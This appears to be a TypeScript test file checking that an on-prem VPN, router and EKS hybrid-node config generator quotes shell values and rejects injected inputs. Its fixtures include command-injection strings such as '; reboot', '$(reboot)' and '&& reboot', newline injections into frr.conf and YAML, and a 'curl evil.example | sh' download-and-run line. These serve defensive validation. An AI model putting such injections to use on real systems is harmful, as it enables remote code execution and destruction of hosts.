import { strict as assert } from "assert";
import { spawnSync } from "child_process";
import fc from "fast-check";
import { IpsecMode } from "../../components/onprem/enums";
import { shellWord } from "../../components/onprem/renderedValues";
import { renderRouterConfig } from "../../components/onprem/routerConfig";
import { renderVpnServerConfig } from "../../components/onprem/vpnServerConfig";
import { VpnServerConfigInputs } from "../../components/onprem/vpnServerInputs";
import { hubFileValueProblems } from "../../components/site/hubOutputValues";
import { Site } from "../../components/site/site";
import { DEFAULT_TUNNEL_OPTIONS } from "../../components/vpn/tunnelOptions";
import { siteHubArgs, siteSettings } from "../support/fixtures";
import { MockCloud } from "../support/mockCloud";

const tunnel = (n: 1 | 2) => ({
    outsideAddress: `198.18.0.${n}`,
    presharedKey: `key.${n}_of_AWS`,
    cgwInsideAddress: `169.254.10.${4 * n - 2}`,
    vgwInsideAddress: `169.254.10.${4 * n - 3}`,
});
const INPUTS: VpnServerConfigInputs = {
    site: "munich",
    mode: IpsecMode.Kernel,
    localId: "203.0.113.10",
    nodeCidr: "10.80.1.0/24",
    vpcCidrs: ["10.0.0.0/16"],
    tunnels: [tunnel(1), tunnel(2)],
    options: DEFAULT_TUNNEL_OPTIONS,
};

describe("values rendered into the site's scripts and config files", () => {
    describe("shellWord", () => {
        for (const [value, word] of [
            ["10.0.0.0/16", "10.0.0.0/16"],
            ["/etc/eks-hybrid-vpn", "/etc/eks-hybrid-vpn"],
            ["10.0.0.0/16; reboot", "'10.0.0.0/16; reboot'"],
            ["it's", "'it'\\''s'"],
            ["$(reboot)", "'$(reboot)'"],
            ["", "''"],
            ["<munich-vpn-vpn.tunnel1Address>", "'<munich-vpn-vpn.tunnel1Address>'"],
        ])
            it(`renders ${JSON.stringify(value)} as ${word}`, () => assert.equal(shellWord(value), word));

        it("makes every string one inert word for sh (property)", () => {
            fc.assert(
                fc.property(fc.string({ unit: "binary", maxLength: 40 }), (raw) => {
                    const value = raw.replace(/\0/g, "");
                    const out = spawnSync("sh", ["-c", `printf '%s' ${shellWord(value)}`], { encoding: "utf8" });
                    return out.status === 0 && out.stdout === value;
                }),
                { numRuns: 60 },
            );
        });
    });

    it("refuses hostile VPN server inputs, naming every one and never a key", () => {
        const hostile: VpnServerConfigInputs = {
            ...INPUTS,
            site: "munich\nreboot",
            vpcCidrs: ["10.0.0.0/16; reboot"],
            otherSiteCidrs: ["$(reboot)"],
            tunnels: [{ ...tunnel(1), outsideAddress: "198.18.0.1 && reboot", presharedKey: 'key"; reboot; "' }, tunnel(2)],
            configDir: "/etc/x y",
        };
        assert.throws(() => renderVpnServerConfig(hostile), {
            message:
                'the VPN server files of site "munich\\nreboot" cannot be written: the site is "munich\\nreboot", not a site name ' +
                '(lower-case letters, digits and -); the hub\'s vpcCidrs holds "10.0.0.0/16; reboot", not an IPv4 CIDR such as ' +
                '10.0.0.0/16; the other sites\' networks holds "$(reboot)", not an IPv4 CIDR such as 10.0.0.0/16; the config dir is ' +
                '"/etc/x y", not an absolute path of letters, digits, _, . and -; the VPN connection\'s tunnel1Address is ' +
                '"198.18.0.1 && reboot", not an IPv4 address such as 10.80.1.1; the VPN connection\'s tunnel1PresharedKey is not a ' +
                "pre-shared key AWS issues (8 to 64 letters, digits, . and _, not starting with 0)",
        });
    });

    it("refuses a router config whose values would add lines to frr.conf", () => {
        assert.throws(
            () =>
                renderRouterConfig({
                    site: "munich",
                    routerAddress: "10.80.1.1\nneighbor 0.0.0.0 remote-as 1",
                    routerAsn: 65000,
                    nodesAsn: 65010,
                    nodeCidr: "10.80.1.0/24",
                    podCidr: "10.96.1.0/24",
                    podMaskSize: 26,
                    vpcCidrs: ["10.0.0.0/16\n!"],
                    password: "pw\nx",
                }),
            {
                message:
                    'the router config of site "munich" cannot be written: bgp.routerAddress is "10.80.1.1\\nneighbor 0.0.0.0 ' +
                    'remote-as 1", not an IPv4 address such as 10.80.1.1; the hub\'s vpcCidrs holds "10.0.0.0/16\\n!", not an IPv4 ' +
                    "CIDR such as 10.0.0.0/16; the BGP password holds a line break, which would add lines to frr.conf; use printable " +
                    "characters only",
            },
        );
    });

    it("takes the offline plan's placeholders for what only AWS knows, and quotes them in the scripts", () => {
        const placeholder = (n: 1 | 2) => ({
            outsideAddress: `<munich-vpn-vpn.tunnel${n}Address>`,
            presharedKey: `<munich-vpn-tunnel${n}-psk.result>`,
            cgwInsideAddress: `<munich-vpn-vpn.tunnel${n}CgwInsideAddress>`,
            vgwInsideAddress: `<munich-vpn-vpn.tunnel${n}VgwInsideAddress>`,
        });
        const files = renderVpnServerConfig({ ...INPUTS, tunnels: [placeholder(1), placeholder(2)] });
        const updown = files.find((f) => f.path === "updown.sh")!.content;
        assert.match(updown, /addr='<munich-vpn-vpn\.tunnel1CgwInsideAddress>'; metric=100/);
        assert.throws(
            () => renderVpnServerConfig({ ...INPUTS, vpcCidrs: ["<hub.vpcCidrs>"] }),
            /the hub's vpcCidrs holds "<hub\.vpcCidrs>"/,
        );
    });

    describe("a Site under a hub whose outputs are hostile", () => {
        const run = (change: (hub: any) => void) =>
            MockCloud.run(() => {
                const hub: any = siteHubArgs();
                change(hub);
                return new Site("munich", { site: siteSettings(), hub, activationExpiry: "2026-12-22T00:00:00Z" });
            });
        /** The error the program stops with (the engine prefixes the output it was serializing). */
        const stopsWith = async (change: (hub: any) => void, message: string) => {
            await assert.rejects(run(change), (e: Error) => {
                assert.equal(e.message.replace(/^error serializing property "[^"]+": /, ""), message);
                return true;
            });
        };

        it("refuses a VPC CIDR that would end a command in updown.sh", () =>
            stopsWith(
                (h) => (h.vpcCidrs = ["10.0.0.0/16; curl evil.example | sh"]),
                'invalid inputs for Site "munich": the hub\'s output vpcCidrs holds "10.0.0.0/16; curl evil.example | sh", not an ' +
                    "IPv4 CIDR such as 10.0.0.0/16",
            ));

        it("refuses a Region that would end a NodeConfig's line", () =>
            stopsWith(
                (h) => (h.region = "eu-central-1\n  name: other"),
                'invalid hub outputs for Site "munich": the hub\'s output region is "eu-central-1\\n  name: other", not an AWS ' +
                    "Region such as eu-central-1",
            ));

        it("names every hub value that is not what it claims", () =>
            assert.deepEqual(
                hubFileValueProblems({
                    clusterName: "prod\n",
                    region: "eu-central-1 ",
                    kubernetesVersion: 1.33,
                    hybridNodeRoleArn: "arn:aws:iam::123456789012:role/ok",
                    trustAnchorArn: "arn:aws:rolesanywhere:eu-central-1:123:trust-anchor/x",
                    profileArn: "arn:aws:rolesanywhere:eu-central-1:123456789012:profile/x y",
                }),
                [
                    'the hub\'s output clusterName is "prod\\n", not an EKS cluster name',
                    'the hub\'s output region is "eu-central-1 ", not an AWS Region such as eu-central-1',
                    'the hub\'s output kubernetesVersion is 1.33, not a Kubernetes minor version such as "1.33"',
                    'the hub\'s output trustAnchorArn is "arn:aws:rolesanywhere:eu-central-1:123:trust-anchor/x", not an IAM Roles ' +
                        "Anywhere trust anchor ARN",
                    'the hub\'s output profileArn is "arn:aws:rolesanywhere:eu-central-1:123456789012:profile/x y", not an IAM Roles ' +
                        "Anywhere profile ARN",
                ],
            ));

        it("refuses a version that would reach the upgrade runbook's commands", () =>
            stopsWith(
                (h) => (h.kubernetesVersion = "1.33 && reboot"),
                'invalid hub outputs for Site "munich": the hub\'s output kubernetesVersion is "1.33 && reboot", not a Kubernetes ' +
                    'minor version such as "1.33"',
            ));
    });
});
